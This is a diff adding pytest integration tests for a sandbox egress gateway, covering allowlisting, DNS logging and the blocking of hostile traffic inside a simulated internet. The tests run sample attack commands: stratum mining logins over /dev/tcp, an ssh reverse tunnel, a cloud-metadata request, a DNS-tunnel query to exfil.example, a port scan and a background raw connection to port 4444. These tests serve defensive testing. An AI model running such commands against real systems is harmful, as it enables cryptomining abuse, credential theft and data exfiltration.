@@ -1,0 +1,222 @@
+"""The egress gateway end to end: real sandboxes, real nftables and veths, the simulated internet.
+
+Everything runs inside namespaces the tests create (the gateway inside an offline outer
+namespace, upstreams inside the simulated internet), so nothing can leave this machine.
+"""
+
+from __future__ import annotations
+
+import os
+import signal
+import time
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+
+from rollcage import Sandbox, SandboxConfig
+from rollcage.errors import ConfigError
+from rollcage.gateway.client import Gateway
+from rollcage.testing import SimulatedInternet
+
+from .conftest import OFFLINE_NETNS
+
+
+class Recorder:
+    """An event sink that keeps events as dicts, for assertions."""
+
+    def __init__(self) -> None:
+        self.events: list[dict[str, Any]] = []
+
+    def emit(self, event: Any) -> None:
+        self.events.append(event.to_dict())
+
+    def of(self, type_: str, **match: Any) -> list[dict[str, Any]]:
+        return [e for e in self.events if e["type"] == type_ and all(e.get(k) == v for k, v in match.items())]
+
+    def wait(self, predicate: Callable[[dict[str, Any]], bool], timeout: float = 5.0) -> dict[str, Any]:
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            for event in list(self.events):
+                if predicate(event):
+                    return event
+            time.sleep(0.02)
+        raise AssertionError(f"no matching event within {timeout}s; got {[e['type'] for e in self.events]}")
+
+
+@pytest.fixture
+def recorder() -> Recorder:
+    return Recorder()
+
+
+@pytest.fixture
+def netbox(gateway: Gateway, recorder: Recorder) -> Iterator[Sandbox]:
+    """A sandbox that may reach pypi.org (and its files host) and nothing else."""
+    config = SandboxConfig(network=["pypi.org", "files.pythonhosted.org"], timeout=30)
+    with Sandbox(config, gateway=gateway, events=recorder, run_id="run-1", episode_id="ep-1") as sb:
+        yield sb
+
+
+def test_allowed_domain_is_reachable_and_recorded(netbox: Sandbox, recorder: Recorder) -> None:
+    r = netbox.run("curl -sS -m 10 http://pypi.org/simple/", step=3)
+    assert r.exit_code == 0, r.output
+    assert "rcsim-hello" in r.output
+    dns = recorder.wait(lambda e: e["type"] == "dns" and e["qname"] == "pypi.org" and e["qtype"] == "A")
+    assert dns["decision"] == "allow" and dns["answer"] == ["198.51.100.20"]
+    closed = recorder.wait(lambda e: e["type"] == "flow" and e.get("phase") == "closed")
+    assert closed["decision"] == "allow"
+    assert closed["dst_ip"] == "198.51.100.20" and closed["dst_port"] == 80
+    assert closed["domain"] == "pypi.org" and closed["protocol"] == "http"
+    assert closed["bytes_in"] > len("rcsim-hello") and closed["bytes_out"] > 0
+    assert closed["cmdline"].startswith("curl ") and closed["pid"] > 0
+    assert (closed["step"], closed["run_id"], closed["episode_id"]) == (3, "run-1", "ep-1")
+    assert closed["sandbox_id"] == netbox.id
+
+
+def test_tls_is_decided_on_sni_without_interception(netbox: Sandbox, internet: SimulatedInternet) -> None:
+    assert internet.index.ca_cert_path is not None
+    netbox.write_file("/tmp/ca.pem", internet.index.ca_cert_path.read_bytes())
+    r = netbox.run("curl -sS -m 10 --cacert /tmp/ca.pem https://pypi.org/simple/")
+    assert r.exit_code == 0, r.output  # the upstream's own certificate verified: no interception
+    assert "rcsim-hello" in r.output
+
+
+def test_sni_naming_an_allowed_domain_does_not_open_other_addresses(netbox: Sandbox, recorder: Recorder) -> None:
+    # TLS to the mining pool's address, claiming to be pypi.org: the name never resolved there.
+    r = netbox.run("curl -sS -m 5 -k --resolve pypi.org:443:203.0.113.10 https://pypi.org/")
+    assert r.exit_code != 0
+    flow = recorder.wait(lambda e: e["type"] == "flow" and e["dst_ip"] == "203.0.113.10")
+    assert flow["decision"] == "deny" and flow["protocol"] == "tls" and flow["domain"] == "pypi.org"
+    assert "does not resolve" in flow["reason"]
+
+
+def test_denied_stratum_never_reaches_the_pool(
+    netbox: Sandbox, recorder: Recorder, internet: SimulatedInternet
+) -> None:
+    before = internet.pool.connections
+    # the subscribe arrives in two pieces, half a second apart, on a port no pool uses
+    script = (
+        '(exec 3<>/dev/tcp/198.51.100.20/8081 || exit 9; printf \'{"id":1,"meth\' >&3; sleep 0.3; '
+        'printf \'od":"mining.subscribe","params":["xmrig/6"]}\\n\' >&3; timeout 3 cat <&3; echo rc=$?)'
+    )
+    netbox.run(script)
+    login = '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4Wallet","pass":"x","agent":"XMRig/6.21"}}'
+    netbox.run(f"(exec 3<>/dev/tcp/203.0.113.10/3333 && echo '{login}' >&3; timeout 3 cat <&3)")
+    first = recorder.wait(lambda e: e["type"] == "flow" and e["dst_port"] == 8081)
+    assert first["decision"] == "deny" and first["protocol"] == "stratum"
+    assert "stratum" in first["indicators"]
+    pool = recorder.wait(lambda e: e["type"] == "flow" and e["dst_port"] == 3333)
+    assert pool["decision"] == "deny" and {"stratum", "mining_port"} <= set(pool["indicators"])
+    assert internet.pool.connections == before  # not one byte, not even a handshake upstream
+
+
+def test_outbound_ssh_internal_and_metadata_destinations_are_flagged(netbox: Sandbox, recorder: Recorder) -> None:
+    netbox.run("ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no -R 9000:localhost:22 "
+               "tunnel@192.0.2.22 true")  # fmt: skip
+    ssh = recorder.wait(lambda e: e["type"] == "flow" and e["dst_port"] == 22)
+    assert ssh["decision"] == "deny" and ssh["protocol"] == "ssh" and "outbound_ssh" in ssh["indicators"]
+    assert ssh["cmdline"].startswith("ssh ")
+    netbox.run("curl -s -m 5 http://169.254.169.254/latest/meta-data/iam/")
+    meta = recorder.wait(lambda e: e["type"] == "flow" and e["dst_ip"] == "169.254.169.254")
+    assert meta["decision"] == "deny" and "metadata" in meta["indicators"] and "internal" in meta["indicators"]
+    netbox.run("curl -s -m 5 http://10.0.0.5/")
+    wiki = recorder.wait(lambda e: e["type"] == "flow" and e["dst_ip"] == "10.0.0.5")
+    assert "private" in wiki["tags"] and wiki["decision"] == "deny"
+
+
+def test_allowed_ssh_reaches_the_real_sshd(gateway: Gateway, recorder: Recorder) -> None:
+    config = SandboxConfig(network=["192.0.2.22:22"])
+    with Sandbox(config, gateway=gateway, events=recorder) as sb:
+        r = sb.run("ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no "
+                   "-o UserKnownHostsFile=/dev/null nobody@192.0.2.22 true", timeout=20)  # fmt: skip
+    assert "Permission denied" in r.output, r.output  # the real sshd answered and refused the key-less login
+    flow = recorder.wait(lambda e: e["type"] == "flow" and e.get("phase") == "closed")
+    assert flow["decision"] == "allow" and "outbound_ssh" in flow["indicators"]
+    assert flow["details"]["banner"].startswith("SSH-2.0-OpenSSH")
+
+
+def test_dns_answers_only_allowed_names_and_logs_every_query(netbox: Sandbox, recorder: Recorder) -> None:
+    r = netbox.run("getent hosts files.pythonhosted.org; getent hosts pool.supportxmr.com; echo rc=$?")
+    assert "198.51.100.20" in r.output and "rc=2" in r.output  # the pool's name does not resolve
+    pool = recorder.wait(lambda e: e["type"] == "dns" and e["qname"] == "pool.supportxmr.com")
+    assert pool["decision"] == "deny" and pool["answer"] == [] and "mining_domain" in pool["indicators"]
+    assert pool["cmdline"] == "getent hosts pool.supportxmr.com"
+    label = "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8"
+    netbox.run(f"getent hosts {label}.exfil.example")
+    tunnel = recorder.wait(lambda e: e["type"] == "dns" and e["qname"].startswith(label))
+    assert "dns_tunnel" in tunnel["indicators"] and tunnel["decision"] == "deny"
+    # a resolver the sandbox names itself is intercepted all the same
+    netbox.run("getent hosts pypi.org >/dev/null; exec 3<>/dev/udp/8.8.8.8/53; printf x >&3")
+    assert recorder.of("dns", decision="allow")
+
+
+def test_other_traffic_is_dropped_and_counted(netbox: Sandbox, recorder: Recorder) -> None:
+    r = netbox.run("for i in 1 2 3; do printf x > /dev/udp/203.0.113.10/9999; done; echo sent")
+    assert "sent" in r.output
+    drop = recorder.wait(lambda e: e["type"] == "net_drop" and e["protocol"] == "udp", timeout=8)
+    assert drop["count"] >= 3 and drop["sandbox_id"] == netbox.id
+
+
+def test_sandbox_cannot_reconfigure_its_network(netbox: Sandbox) -> None:
+    for command in ("ip route del default", "ip addr add 10.99.0.2/24 dev eth0", "ip link set eth0 down",
+                    "nft flush ruleset"):  # fmt: skip
+        assert netbox.run(command).exit_code != 0, command
+    assert netbox.run("curl -sS -m 10 -o /dev/null -w '%{http_code}' http://pypi.org/simple/").output == "200"
+
+
+def test_a_scan_is_flagged(netbox: Sandbox, recorder: Recorder) -> None:
+    netbox.run("for p in $(seq 1 30); do (exec 3<>/dev/tcp/10.0.0.6/$p) 2>/dev/null; done; true")
+    scan = recorder.wait(lambda e: e["type"] == "flow" and "scan" in e["indicators"], timeout=15)
+    assert scan["scan"]["sweep"] == "port_scan"
+
+
+def test_background_process_is_attributed_to_the_step_that_started_it(netbox: Sandbox, recorder: Recorder) -> None:
+    netbox.run("nohup bash -c 'sleep 1.5; exec 3<>/dev/tcp/203.0.113.10/4444; echo hi >&3; cat <&3' >/dev/null 2>&1 &",
+               step=2)  # fmt: skip
+    netbox.run("echo doing other work", step=3)
+    netbox.run("sleep 2.5", step=4)
+    flow = recorder.wait(lambda e: e["type"] == "flow" and e["dst_port"] == 4444)
+    assert flow["step"] == 2
+    assert flow["cmdline"].startswith("bash -c sleep 1.5")
+
+
+def test_empty_policy_denies_everything(gateway: Gateway, recorder: Recorder) -> None:
+    with Sandbox(SandboxConfig(network=[]), gateway=gateway, events=recorder) as sb:
+        assert sb.run("curl -sS -m 5 http://198.51.100.20/").exit_code != 0
+        assert sb.run("getent hosts pypi.org").exit_code != 0
+    assert recorder.wait(lambda e: e["type"] == "flow")["decision"] == "deny"
+
+
+def test_bad_policy_entries_are_rejected_before_anything_starts() -> None:
+    from rollcage.config import build_config
+
+    with pytest.raises(ConfigError, match="network"):
+        build_config(network=["not a host!"])
+
+
+def test_gateway_death_stops_its_sandboxes_and_no_connection_gets_through(
+    internet: SimulatedInternet, recorder: Recorder
+) -> None:
+    with Gateway(internet.connector_spec(), outer_netns=OFFLINE_NETNS) as gw:
+        sb = Sandbox(SandboxConfig(network=["pypi.org"]), gateway=gw, events=recorder)
+        try:
+            assert sb.run("curl -sS -m 5 -o /dev/null http://pypi.org/simple/").exit_code == 0
+            sb.run("(while true; do curl -s -m 2 -o /dev/null http://pypi.org/simple/ && echo ok >> /tmp/log; "
+                   "done) >/dev/null 2>&1 &")  # fmt: skip
+            time.sleep(0.5)
+            served = len(internet.index.requests)
+            os.kill(gw.pid, signal.SIGKILL)
+            killed = time.monotonic()
+            deadline = killed + 5
+            while not sb.closed and time.monotonic() < deadline:
+                time.sleep(0.02)
+            assert sb.closed, "sandbox kept running without its gateway"
+            assert time.monotonic() - killed < 3
+            time.sleep(0.3)
+            after = len(internet.index.requests)
+            assert after - served <= 1  # at most the request in flight at the kill completes
+            assert not sb.pids()
+        finally:
+            sb.close()
+    lost = recorder.of("sandbox", action="network_lost")
+    assert lost and "died" in lost[0]["reason"]
